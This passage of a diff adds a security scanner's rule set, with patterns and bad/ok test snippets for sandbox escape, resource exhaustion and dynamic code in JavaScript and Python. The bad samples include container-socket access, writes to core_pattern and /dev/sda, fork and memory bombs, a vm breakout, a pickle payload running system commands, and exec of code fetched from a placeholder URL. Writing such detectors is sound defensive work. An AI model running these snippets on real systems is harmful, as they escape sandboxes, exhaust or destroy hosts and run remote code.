+        id: 'js/sandbox-escape/container-socket',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: "Talks to the container engine's socket",
+        recommendation: 'Never give a program the engine',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        tags: ['sensitive-path'],
+        match: {
+            call: [
+                'fs.*',
+                'fetch',
+                'net.*',
+                'http.*',
+                'https.*',
+                'http2.*',
+                'undici.*',
+                'axios*',
+                'got*',
+                'request*',
+                'child_process.*',
+                'dockerode*',
+                '?.connect',
+                '*().connect',
+            ],
+            where: { arg: 'any', contains: ['docker.sock', 'containerd.sock', 'crio.sock', 'podman.sock'] },
+        },
+        bad: [
+            "require('http').request({ socketPath: '/var/run/docker.sock', path: '/containers/json' })",
+            "require('net').connect('/run/containerd/containerd.sock')",
+            "const s = '/var/run/' + 'docker' + '.sock'; require('fs').existsSync(s)",
+        ],
+        ok: ["console.log('mount /var/run/docker.sock never')", "require('net').connect('/tmp/app.sock')"],
+    },
+    {
+        id: 'js/sandbox-escape/kernel-files',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Touches files by which a container reaches its host',
+        recommendation: 'Leave kernel and host files alone',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: {
+            call: ['fs.*'],
+            where: {
+                arg: 'any',
+                regex: '^/proc/(?:1/root|sys/kernel/core_pattern|sysrq-trigger|sys/fs/binfmt_misc|kcore|[0-9]{1,7}/mem|self/mem)|^/sys/fs/cgroup.{0,80}(?:release_agent|notify_on_release)|^/sys/kernel|^/dev/(?:mem|kmem|kmsg|sd[a-z]|nvme|vd[a-z]|xvd)',
+            },
+        },
+        bad: [
+            "require('fs').writeFileSync('/proc/sys/kernel/core_pattern', '|/tmp/x')",
+            "import fs from 'fs'; fs.readdirSync('/proc/1/root')",
+            "require('fs').writeFileSync('/dev/sda', 'x')",
+        ],
+        ok: [
+            "require('fs').readFileSync('/proc/cpuinfo', 'utf8')",
+            "require('fs').writeFileSync('/dev/null', 'x')",
+            "console.log('/proc/1/root')",
+        ],
+    },
+    {
+        id: 'js/sandbox-escape/inspector',
+        languages: javascript_process_languages,
+        severity: 'medium',
+        message: 'Changes its own user or opens a debugger',
+        recommendation: 'Run as you are started',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: [
+            {
+                call: [
+                    'process.setuid',
+                    'process.seteuid',
+                    'process.setgid',
+                    'process.setegid',
+                    'process.initgroups',
+                    'process.setgroups',
+                ],
+            },
+            { import: 'inspector' },
+            { import: 'inspector/promises' },
+        ],
+        bad: ['process.setuid(0)', "require('inspector').open(9229)"],
+        ok: ['console.log(process.getuid())'],
+    },
+    {
+        id: 'js/sandbox-escape/inspector-code',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Has the debugger run text as code',
+        recommendation: 'Write the code out',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-506' },
+        match: {
+            call: ['inspector*', '?.post', '*().post'],
+            where: { arg: 'any', equals: ['Runtime.evaluate', 'Runtime.callFunctionOn', 'Runtime.compileScript'] },
+        },
+        bad: [
+            "const { Session } = require('inspector'); const s = new Session(); s.connect(); s.post('Runtime.evaluate', { expression: '1' })",
+        ],
+        ok: [
+            "const s = new (require('inspector').Session)(); s.post('Profiler.enable')",
+            "console.log('Runtime.evaluate')",
+        ],
+    },
+    {
+        id: 'js/sandbox-escape/vm-breakout',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Reaches out of a `vm` context by its constructors',
+        recommendation: 'A `vm` context is no boundary; do not run foreign code in it',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-265' },
+        match: { string: { regex: 'constructor\\s?(?:\\.|\\[.{1,4})constructor.{0,6}\\(.{0,20}return process' } },
+        bad: ["require('vm').runInNewContext(\"this.constructor.constructor('return process')().exit()\")"],
+        ok: ["require('vm').runInNewContext('1 + 1')"],
+    },
+    {
+        id: 'js/resource-exhaustion/endless-loop',
+        languages: javascript_process_languages,
+        severity: 'low',
+        message: 'Has a loop without an end',
+        recommendation: 'Give the loop an end that is always reached',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-835' },
+        tags: ['endless'],
+        match: { loop: { endless: true } },
+        bad: [
+            'while (true) {}',
+            'for (;;) { console.log(1); }',
+            'do { } while (!0)',
+            'while (1 === 1) { for (const x of [1]) { break; } }',
+        ],
+        ok: [
+            'while (true) { if (Math.random() > 0.5) break; }',
+            'for (;;) { process.exit(0); }',
+            'function* ids() { let i = 0; while (true) yield i++; } ids().next();',
+            'while (queue.length) queue.pop();',
+        ],
+    },
+    {
+        id: 'js/resource-exhaustion/fork-bomb',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Starts processes or workers without end',
+        recommendation: 'Start a bounded number and wait for each',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: [
+            { loop: { endless: true, calls: ['child_process.*', 'cluster.fork', 'worker_threads.Worker'] } },
+            { function: { selfCalls: 1, calls: ['child_process.*', 'cluster.fork', 'worker_threads.Worker'] } },
+            { loop: { rounds: 2000, calls: ['child_process.*', 'cluster.fork', 'worker_threads.Worker'] } },
+            { call: 'starts-itself' },
+        ],
+        bad: [
+            "const { fork } = require('child_process'); while (true) fork(__filename);",
+            "const cp = require('child_process'); function bomb() { cp.spawn('node', ['x.js']); bomb(); bomb(); } bomb();",
+            "const { Worker } = require('worker_threads'); for (;;) new Worker('while(1);', { eval: true });",
+            "require('child_process').spawn(process.execPath, [__filename], { detached: true })",
+            "const { spawn } = require('child_process'); for (let i = 0; i < 1e6; i++) spawn('sleep', ['9']);",
+        ],
+        ok: [
+            "const { fork } = require('child_process'); fork('./worker.js');",
+            'function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); } fib(5);',
+        ],
+    },
+    {
+        id: 'js/resource-exhaustion/timer-bomb',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Starts its own timer more than once each time, so that timers double without end',
+        recommendation: 'Start one timer, and stop when the work is done',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: {
+            function: {
+                selfCalls: 2,
+                calls: ['setTimeout', 'setImmediate', 'setInterval', 'process.nextTick', 'queueMicrotask'],
+            },
+        },
+        bad: [
+            'const grow = () => { setTimeout(grow, 0); setTimeout(grow, 0); }; grow();',
+            'function f() { setImmediate(f); setImmediate(f); } f();',
+        ],
+        ok: [
+            'const tick = () => { console.log(1); setTimeout(tick, 1000); }; tick();',
+            'const poll = (n) => { if (n > 3) setTimeout(poll, 10, n - 1); else if (n > 0) setTimeout(poll, 20, n - 1); }; poll(5);',
+            'const fib = (n) => (n < 2 ? n : fib(n - 1) + fib(n - 2)); setTimeout(() => console.log(fib(9)), 1);',
+        ],
+    },
+    {
+        id: 'js/resource-exhaustion/fork',
+        languages: javascript_process_languages,
+        severity: 'low',
+        message: 'Starts copies of a program',
+        recommendation: 'Start a bounded number and wait for each',
+        metadata: { capability: 'resource-exhaustion' },
+        tags: ['fork'],
+        match: { call: ['child_process.fork', 'cluster.fork', 'worker_threads.Worker', 'child_process.spawn'] },
+        bad: ["require('cluster').fork()", "require('child_process').fork('./w.js')"],
+        ok: ['const repository = { fork() {} }; repository.fork();'],
+    },
+    {
+        id: 'js/resource-exhaustion/memory',
+        languages: javascript_process_languages,
+        severity: 'medium',
+        message: 'Takes a very large amount of memory or disk',
+        recommendation: 'Work in parts of bounded size',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-789' },
+        match: [
+            { allocation: { atLeast: 500_000_000 } },
+            {
+                loop: {
+                    endless: true,
+                    calls: [
+                        '?.push',
+                        '?.concat',
+                        '?.repeat',
+                        '?.set',
+                        'Buffer.alloc*',
+                        'Array',
+                        '?.fill',
+                        'fs.append*',
+                        'fs.write*',
+                        'Map().set',
+                        'Set().add',
+                        'ArrayBuffer',
+                        'Uint8Array',
+                        'Float64Array',
+                    ],
+                },
+            },
+        ],
+        bad: [
+            'Buffer.alloc(4e9)',
+            "'x'.repeat(1e9)",
+            'const a = []; while (true) a.push(new Array(1000));',
+            "while (true) require('fs').appendFileSync('/tmp/x', 'x');",
+            'new Array(2 ** 31)',
+        ],
+        ok: [
+            'Buffer.alloc(1024)',
+            "'-'.repeat(80)",
+            'const a = []; while (true) { a.push(1); if (a.length > 3) break; }',
+            'new Array(100).fill(0)',
+        ],
+    },
+    {
+        id: 'js/resource-exhaustion/memory-bomb',
+        languages: javascript_process_languages,
+        severity: 'high',
+        message: 'Takes memory or disk without an end, or more than any machine has',
+        recommendation: 'Work in parts of bounded size',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-770' },
+        match: [
+            { allocation: { atLeast: 3e10 } },
+            {
+                loop: {
+                    endless: true,
+                    calls: [
+                        '?.push',
+                        '?.concat',
+                        '?.repeat',
+                        '?.set',
+                        'Buffer.alloc*',
+                        'fs.append*',
+                        'fs.write*',
+                        'Map().set',
+                        'Set().add',
+                        'ArrayBuffer',
+                        'WebAssembly.Memory',
+                        '?.grows',
+                    ],
+                },
+            },
+        ],
+        bad: [
+            'Buffer.alloc(64 * 1024 ** 3)',
+            'const a = []; while (true) a.push(new Array(1000));',
+            "let s = 'x'; for (;;) s += s;",
+            "for (;;) require('fs').appendFileSync('/tmp/x', 'x');",
+        ],
+        ok: ['Buffer.alloc(1e9)', 'const a = []; while (true) { a.push(1); if (a.length > 3) break; }'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/javascript.js
+
+
+
+const javascriptRules = [...codeRules, ...processRules, ...dataRules];
+
+;// CONCATENATED MODULE: ./build/rules/python-code.js
+const python_code_languages = ['python'];
+const EVALUATORS = ['eval', 'exec', 'compile'];
+const OTHER_EVALUATORS = [
+    'timeit.timeit',
+    'timeit.repeat',
+    'cProfile.run',
+    'profile.run',
+    'pdb.run',
+    'pdb.runeval',
+    'code.InteractiveInterpreter.*',
+    'code.InteractiveConsole.*',
+];
+const UNPICKLERS = [
+    'pickle.load',
+    'pickle.loads',
+    'pickle.Unpickler',
+    'dill.load',
+    'dill.loads',
+    'cloudpickle.load',
+    'cloudpickle.loads',
+    'joblib.load',
+    'pandas.read_pickle',
+    'shelve.open',
+    'jsonpickle.decode',
+    'torch.load',
+    'marshal.load',
+    'marshal.loads',
+];
+/** Functions whose disguise has no honest reason. */
+const DANGEROUS = [
+    'eval',
+    'exec',
+    'compile',
+    '__import__',
+    'os.system',
+    'os.popen',
+    'os.exec*',
+    'os.spawn*',
+    'os.posix_spawn*',
+    'os.fork*',
+    'os.kill*',
+    'os.remove',
+    'os.unlink',
+    'subprocess.*',
+    'pty.spawn',
+    'shutil.rmtree',
+    'socket.socket*',
+    'socket.create_connection',
+    'ctypes.*',
+    'pickle.loads',
+    'marshal.loads',
+    'open',
+    'multiprocessing.Process',
+];
+const PICKED = ['os.?', 'sys.?', 'shutil.?', 'builtins.?', 'pty.?', 'subprocess.?'];
+const DANGEROUS_MODULES = [
+    'os',
+    'subprocess',
+    'socket',
+    'ctypes',
+    'pty',
+    'builtins',
+    'shutil',
+    'multiprocessing',
+    'importlib',
+    'pickle',
+    'marshal',
+    'sys',
+    'signal',
+    'urllib*',
+    'requests',
+    'http*',
+    'ftplib',
+    'smtplib',
+];
+const python_code_codeRules = [
+    {
+        id: 'py/dynamic-code/eval',
+        languages: python_code_languages,
+        severity: 'low',
+        message: 'Runs code that it holds as text (eval, exec or compile)',
+        recommendation: 'Write the code out, or read data with json.loads or ast.literal_eval',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: [{ call: [...EVALUATORS, ...OTHER_EVALUATORS] }],
+        bad: [
+            "eval('1 + 1')",
+            'exec("x = 1")',
+            'e = eval\ne("1")',
+            "compile('1', '<x>', 'eval')",
+            '(f := exec)("x = 1")',
+            "list(map(eval, ['1']))",
+        ],
+        ok: [
+            '# eval(x)',
+            'print("eval(")',
+            'import ast\nast.literal_eval("[1]")',
+            'import re\nre.compile("a")',
+            'def evaluate(x):\n    return x\nevaluate(1)',
+            'class M:\n    def eval(self):\n        return 1\nM().eval()',
+        ],
+    },
+    {
+        id: 'py/dynamic-code/eval-of-data',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Runs code made from a value that is not known before it runs',
+        recommendation: 'Read data with json.loads or ast.literal_eval; choose between functions with a dictionary',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: {
+            call: [...EVALUATORS, ...OTHER_EVALUATORS],
+            where: [
+                { arg: [0, 'stmt', 'source'], is: 'non-literal' },
+                // A function is no text: nothing is made of it.
+                { arg: [0, 'stmt'], path: '<function>', not: true },
+            ],
+        },
+        bad: [
+            'def f(x):\n    return eval(x)',
+            "eval('f' + input())",
+            "exec(open('x.py').read())",
+            'import functools\ndef g(code):\n    functools.partial(exec, code)()',
+            'run = {"go": exec}\ndef h(c):\n    run["go"](c)',
+            "exec(f'x = {input()}')",
+        ],
+        ok: [
+            "eval('1 + 1')",
+            'import json\ndef f(x):\n    return json.loads(x)',
+            "eval('1' + '2')",
+            'import timeit\ntimeit.timeit(lambda: sum(range(9)))',
+        ],
+    },
+    {
+        id: 'py/dynamic-code/eval-of-outside-data',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Runs code that comes from outside the program',
+        recommendation: 'Have the code in the repository, where it can be read before it runs',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        tags: ['execute'],
+        match: [
+            { call: EVALUATORS, where: { arg: 0, is: 'external' } },
+            {
+                call: ['runpy.run_path', 'runpy.run_module', 'importlib.machinery.SourceFileLoader'],
+                where: { arg: 0, is: 'non-literal' },
+            },
+        ],
+        bad: [
+            'exec(input())',
+            'import sys\neval(sys.argv[1])',
+            'import requests\nexec(requests.get("https://example.org/x").text)',
+            'import urllib.request as u\nexec(u.urlopen("https://example.org").read().decode())',
+        ],
+        ok: [
+            'x = input()\nprint(x)',
+            'import requests\nprint(requests.get("https://example.org").text)',
+            "exec('print(1)')",
+        ],
+    },
+    {
+        id: 'py/dynamic-code/file-as-code',
+        languages: python_code_languages,
+        severity: 'low',
+        message: 'Runs another file as code',
+        recommendation: 'Use an import statement',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-94' },
+        tags: ['execute'],
+        match: {
+            call: [
+                'runpy.*',
+                'importlib.machinery.SourceFileLoader',
+                'importlib.util.spec_from_file_location',
+                '*.loader.exec_module',
+                'importlib.machinery.ExtensionFileLoader',
+                'importlib.load_source',
+                'zipimport.*',
+            ],
+        },
+        bad: ["import runpy\nrunpy.run_path('a.py')", "import importlib.util as u\nu.spec_from_file_location('x', 'x.py')"],
+        ok: ['import json', "print('runpy.run_path')"],
+    },
+    {
+        id: 'py/dynamic-code/shared-folder-as-code',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Runs code out of a folder that every program may write to',
+        recommendation: 'Have the code in the repository, where it can be read before it runs',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-427' },
+        match: [
+            {
+                call: [
+                    'runpy.*',
+                    'importlib.machinery.*',
+                    'importlib.util.spec_from_file_location',
+                    'importlib.load_source',
+                    'zipimport.*',
+                    'ctypes.CDLL',
+                    '*.load_extension',
+                ],
+                where: { arg: 'any', regex: '^/(?:tmp|var/tmp|dev/shm)/' },
+            },
+            {
+                call: ['sys.path.insert', 'sys.path.append'],
+                where: { arg: 'any', regex: '^/(?:tmp|var/tmp|dev/shm)(?:/|$)' },
+            },
+        ],
+        bad: ["import runpy\nrunpy.run_path('/tmp/a.py')", "import sys\nsys.path.insert(0, '/tmp/x')\nimport x"],
+        ok: ["import runpy\nrunpy.run_path('tools/a.py')", "import sys\nsys.path.insert(0, 'lib')"],
+    },
+    {
+        id: 'py/dynamic-code/renamed',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Runs text as code by a function that goes under another name',
+        recommendation: 'Call the function by its own name, or write the code out',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-506' },
+        match: [
+            { call: ['eval', 'exec', 'pickle.loads', 'marshal.loads'], renamed: true, where: { minArgs: 1 } },
+            { assign: ['builtins.*'], value: { path: ['eval', 'exec', 'compile', '__import__', 'os.system', 'os.popen'] } },
+        ],
+        bad: [
+            "e = eval\nprint(e('1'))",
+            'from builtins import exec as log\nlog("x = 1")',
+            'run = {"go": exec}\ndef h(c):\n    run["go"](c)',
+            "import builtins\nbuiltins.print = builtins.exec\nprint('x = 1')",
+        ],
+        ok: ["print(eval('1'))", "import builtins\nbuiltins.eval('1')", 'evaluate = len\nevaluate("1")'],
+    },
+    {
+        id: 'py/dynamic-code/decorator',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Calls an evaluator or a command as a decorator, so that no call can be seen',
+        recommendation: 'Write the call out',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-506' },
+        match: { decorator: ['eval', 'exec', 'compile', 'os.system', 'os.popen', '__import__', 'subprocess.*'] },
+        bad: ['@eval\n@str\ndef f():\n    pass', 'from os import system as s\n@s\n@str\nclass A:\n    pass'],
+        ok: [
+            'import functools\n@functools.cache\ndef f():\n    return 1',
+            'def exec_(f):\n    return f\n@exec_\ndef g():\n    pass',
+        ],
+    },
+    {
+        id: 'py/dynamic-code/handed-over',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Hands over a function that runs code or commands, so that the call stands elsewhere',
+        recommendation: 'Call the function by its name where it is needed',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: {
+            attribute: [
+                'eval',
+                'exec',
+                'os.system',
+                'os.popen',
+                'subprocess.getoutput',
+                'subprocess.getstatusoutput',
+                'pickle.loads',
+                'marshal.loads',
+            ],
+        },
+        bad: [
+            "sorted(['1'], key=eval)",
+            'run = exec',
+            "import os\nhandlers = {'x': os.system}",
+            'from os import popen as p\nprint(p)',
+            "import asyncio, os\nasyncio.get_event_loop().call_soon(os.system, 'id')",
+        ],
+        ok: ['from os import system', "print(eval('1'))", 'import os\nprint(os.getcwd)', "sorted(['1'], key=len)"],
+    },
+    {
+        id: 'py/dynamic-code/computed-function',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Calls a function of a powerful module whose name is not known before it runs',
+        recommendation: 'Choose between functions with a dictionary',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-470' },
+        match: { call: ['os.?', 'sys.?', 'shutil.?', 'builtins.?', 'pty.?'] },
+        bad: [
+            'import os\ndef f(name):\n    getattr(os, name)("x")',
+            'import os\nfor k, v in vars(os).items():\n    v("x")',
+        ],
+        ok: [
+            'import math\ndef f(name):\n    return getattr(math, name)(1)',
+            'import os\ndef f(name):\n    return getattr(os, name)',
+        ],
+    },
+    {
+        id: 'py/dynamic-code/found-function',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Looks through the names of a powerful module and calls one that it picked',
+        recommendation: 'Import and call the function by its name',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-470' },
+        tags: ['disguise'],
+        match: [
+            { all: [{ call: ['dir', 'vars', 'inspect.getmembers'] }, { call: PICKED, hidden: true }] },
+            { all: [{ attribute: '*.__dict__' }, { call: PICKED, hidden: true }] },
+        ],
+        bad: [
+            'import os\nfor n in dir(os):\n    if n.endswith("stem"):\n        getattr(os, n)("id")',
+            'import os\nnext(v for k, v in vars(os).items() if k == "popen")("id")',
+        ],
+        ok: [
+            'import os\nprint([n for n in dir(os) if n.startswith("O_")])',
+            'import os\nfor n in dir(os):\n    print(getattr(os, n))',
+        ],
+    },
+    {
+        id: 'py/dynamic-code/import-by-name',
+        languages: python_code_languages,
+        severity: 'low',
+        message: 'Imports a module by a name held as text',
+        recommendation: 'Use an import statement',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-470' },
+        match: [
+            {
+                call: [
+                    '__import__',
+                    'importlib.import_module',
+                    'pkgutil.resolve_name',
+                    'pydoc.locate',
+                    'importlib.util.spec_from_file_location',
+                ],
+            },
+        ],
+        bad: [
+            "__import__('json')",
+            "import importlib\nimportlib.import_module('math')",
+            "import pkgutil\npkgutil.resolve_name('math:pi')",
+        ],
+        ok: ['import json', 'print("__import__")', '# __import__("os")'],
+    },
+    {
+        id: 'py/dynamic-code/import-of-data',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Imports a module whose name is not known before it runs',
+        recommendation: 'Choose between known modules with a dictionary',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-470' },
+        match: { call: ['__import__', 'importlib.import_module'], where: { arg: [0, 'name'], is: 'non-literal' } },
+        bad: ['def f(n):\n    return __import__(n)', 'import importlib\nimportlib.import_module(input())'],
+        ok: ["__import__('json')", "import importlib\nimportlib.import_module('a' + 'b')"],
+    },
+    {
+        id: 'py/dynamic-code/unpickle',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Loads objects in a format that can run code while loading',
+        recommendation: 'Store data as JSON',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-502' },
+        match: [
+            {
+                call: UNPICKLERS,
+                where: [
+                    {
+                        arg: 0,
+                        path: ['pickle.dumps()', 'marshal.dumps()', 'dill.dumps()', 'cloudpickle.dumps()'],
+                        not: true,
+                    },
+                    { arg: 'weights_only', is: 'true', not: true },
+                ],
+            },
+            { call: ['numpy.load'], where: { arg: 'allow_pickle', is: 'true' } },
+            { call: ['yaml.unsafe_load', 'yaml.unsafe_load_all', 'yaml.full_load'] },
+            { call: ['yaml.load', 'yaml.load_all'], where: { arg: [1, 'Loader'], is: 'missing' } },
+            {
+                call: ['yaml.load', 'yaml.load_all'],
+                where: { arg: [1, 'Loader'], path: ['yaml.Loader', 'yaml.UnsafeLoader', 'yaml.CLoader', 'yaml.FullLoader'] },
+            },
+        ],
+        bad: [
+            "import pickle\npickle.load(open('x', 'rb'))",
+            'from pickle import loads as l\ndef f(b):\n    return l(b)',
+            "import _pickle\n_pickle.loads(b'x')",
+            'import yaml\ndef f(t):\n    return yaml.load(t)',
+            'import yaml\ndef f(t):\n    return yaml.load(t, Loader=yaml.UnsafeLoader)',
+            'import numpy as np\nnp.load("x.npy", allow_pickle=True)',
+            "import marshal\nmarshal.loads(b'c')",
+        ],
+        ok: [
+            "import json\njson.load(open('x'))",
+            'import pickle\npickle.dumps([1])',
+            'import pickle\ncopy = pickle.loads(pickle.dumps([1]))',
+            'import yaml\nyaml.safe_load("a: 1")',
+            'import yaml\nyaml.load("a: 1", Loader=yaml.SafeLoader)',
+            "import numpy as np\nnp.load('x.npy')",
+        ],
+    },
+    {
+        id: 'py/dynamic-code/pickled-call',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Loads an object that calls a function of the system while loading',
+        recommendation: 'Store data as JSON',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-502' },
+        match: [
+            {
+                call: UNPICKLERS,
+                where: {
+                    arg: 0,
+                    regex: [
+                        'c(?:os|posix|nt|subprocess|builtins|__builtin__|sys|runpy|pty)\\n',
+                        '(?:posix|os|nt|subprocess|builtins).{1,4}(?:system|popen|Popen|run|eval|exec)',
+                    ],
+                },
+            },
+            {
+                call: 'yaml.*',
+                where: {
+                    arg: 0,
+                    contains: ['!!python/object/apply', '!!python/object/new', '!!python/name', '!!python/module'],
+                },
+            },
+        ],
+        bad: [
+            'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")',
+            "import yaml\nyaml.load('!!python/object/apply:os.system [id]', Loader=yaml.Loader)",
+            "import pickle as p, base64\np.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))",
+        ],
+        ok: ["import pickle\npickle.loads(b'I1\\n.')", "import yaml\nyaml.safe_load('a: [1]')"],
+    },
+    {
+        id: 'py/dynamic-code/unpickle-download',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Loads objects from the network in a format that can run code while loading',
+        recommendation: 'Send data as JSON',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-502' },
+        match: [
+            { call: UNPICKLERS, where: { arg: 0, source: 'network' } },
+            {
+                all: [
+                    { call: ['marshal.loads', 'marshal.load', 'pickle.loads', 'dill.loads'] },
+                    { call: ['types.FunctionType', 'types.CodeType', 'exec', 'eval'] },
+                ],
+            },
+        ],
+        bad: [
+            "import pickle, urllib.request as u\npickle.loads(u.urlopen('http://example.org').read())",
+            "import marshal, types\ntypes.FunctionType(marshal.loads(b'c'), globals())()",
+        ],
+        ok: ["import pickle\npickle.load(open('x', 'rb'))"],
+    },
+    {
+        id: 'py/dynamic-code/own-bytecode',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Puts bytecode of its own making into a function, where nobody can read it',
+        recommendation: 'Write the function out',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        tags: ['disguise'],
+        match: [
+            { all: [{ call: ['*.__code__.replace', 'types.CodeType'] }, { assign: ['*.__code__'] }] },
+            { all: [{ call: 'types.CodeType' }, { call: ['types.FunctionType', 'exec', 'eval'] }] },
+            { call: '*.__code__.replace', where: { arg: 'co_code', is: 'present' } },
+        ],
+        bad: [
+            'def f():\n    pass\nf.__code__ = f.__code__.replace(co_code=b"d\\x00S\\x00", co_names=("system",))',
+            "import types\nc = types.CodeType(0, 0, 0, 0, 1, 64, b'', (), (), (), '', '', 1, b'')\nexec(c)",
+        ],
+        ok: [
+            'def f():\n    pass\ndef g():\n    pass\nf.__code__ = g.__code__',
+            "import types\ntypes.FunctionType(compile('1', 'x', 'eval'), {})()",
+            'def f():\n    pass\nprint(f.__code__.co_code)',
+        ],
+    },
+    {
+        id: 'py/dynamic-code/bytecode',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Makes or changes functions from bytecode',
+        recommendation: 'Write the function out',
+        metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
+        match: [
+            { call: ['types.CodeType', 'types.FunctionType', '*.__code__.replace', 'code.interact'] },
+            { assign: ['*.__code__'] },
+        ],
+        bad: [
+            "import types\ntypes.FunctionType(compile('1', 'x', 'eval'), {})()",
+            'def f():\n    pass\ndef g():\n    pass\nf.__code__ = g.__code__',
+            'import code\ncode.interact()',
+        ],
+        ok: ['import types\nx: types.FunctionType = len', 'def f():\n    pass\nprint(f.__code__.co_name)'],
+    },
+    {
+        id: 'py/sandbox-escape/object-graph',
+        languages: python_code_languages,
+        severity: 'high',
+        message: 'Climbs from a plain object to the interpreter’s own classes or globals',
+        recommendation: 'Import what is needed by name',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-693' },
+        tags: ['disguise'],
+        match: [
+            {
+                call: [
+                    '*__base__*__subclasses__',
+                    '*__mro__*__subclasses__',
+                    '*__bases__*__subclasses__',
+                    'object.__subclasses__',
+                    'type.__subclasses__',
+                    '*.mro*__subclasses__',
+                ],
+            },
+            {
+                attribute: [
+                    '*__init__.__globals__',
+                    '*__class__*__globals__',
+                    '*__subclasses__*__globals__',
+                    '?*__class__*__init__*',
+                    '?*__class__*__mro__*__subclasses__',
+                    '?*__class__*__base*__subclasses__',
+                    '*._Printer__filenames',
+                ],
+            },
+        ],
+        bad: [
+            '().__class__.__base__.__subclasses__()',
+            "''.__class__.__mro__[1].__subclasses__()",
+            '[].__class__.__bases__[0].__subclasses__()',
+            'object.__subclasses__()',
+            "[c for c in {}.__class__.__base__.__subclasses__() if c.__name__ == 'Popen']",
+            "def f(x):\n    return x.__init__.__globals__['os'].system('id')",
+        ],
+        ok: [
+            'class A:\n    pass\nA.__subclasses__()',
+            'class A:\n    pass\nprint(A().__class__.__name__)',
+            'print(int.__mro__)',
+            'class B(dict):\n    pass\nB.__bases__',
+        ],
+    },
+    {
+        id: 'py/sandbox-escape/template',
+        languages: python_code_languages,
+        severity: 'high',
+        message: "Has a template climb to the interpreter's own classes or globals",
+        recommendation: 'Give templates plain values, and render them in a sandboxed environment',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-1336' },
+        match: {
+            all: [
+                { string: { regex: '__(?:class|mro|subclasses|globals|builtins|import)__' } },
+                { call: ['jinja2.*', 'mako.*', 'django.template.*', 'tornado.template.*', 'flask.render_template_string'] },
+            ],
+        },
+        bad: ['from jinja2 import Template\nTemplate("{{ \'\'.__class__.__mro__ }}").render()'],
+        ok: ['from jinja2 import Template\nTemplate("{{ name }}").render(name="x")', "print('__class__')"],
+    },
+    {
+        id: 'py/sandbox-escape/frames',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Reaches into the frames or globals of other code',
+        recommendation: 'Pass values as parameters',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-693' },
+        match: [
+            { call: ['sys._getframe', 'sys._current_frames', 'gc.get_objects', 'gc.get_referrers'] },
+            { attribute: ['*.f_globals', '*.f_builtins', '*.f_back', '*.gi_frame', '*.__globals__'] },
+        ],
+        bad: [
+            'import sys\nsys._getframe(1)',
+            'def f(g):\n    return g.gi_frame.f_back',
+            'print(len.__globals__)',
+            'import gc\ngc.get_objects()',
+        ],
+        ok: ['import inspect\nprint(inspect.signature(len))', 'import gc\ngc.collect()'],
+    },
+    {
+        id: 'py/sandbox-escape/tampering',
+        languages: python_code_languages,
+        severity: 'medium',
+        message: 'Replaces parts of the interpreter that other code trusts',
+        recommendation: 'Leave builtins and loaded modules as they are',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-471' },
+        match: [
+            {
+                assign: [
+                    'builtins.*',
+                    'sys.modules.*',
+                    'os.system',
+                    'os.open',
+                    'subprocess.*',
+                    'socket.*',
+                    'sys.meta_path*',
+                    'sys.path_hooks*',
+                ],
+            },
+            { call: ['sys.addaudithook', 'sys.meta_path.insert', 'sys.meta_path.append'] },
+        ],
+        bad: [
+            'import builtins\nbuiltins.open = print',
+            "import sys\nsys.modules['os'] = None",
+            '__builtins__.eval = print',
+        ],
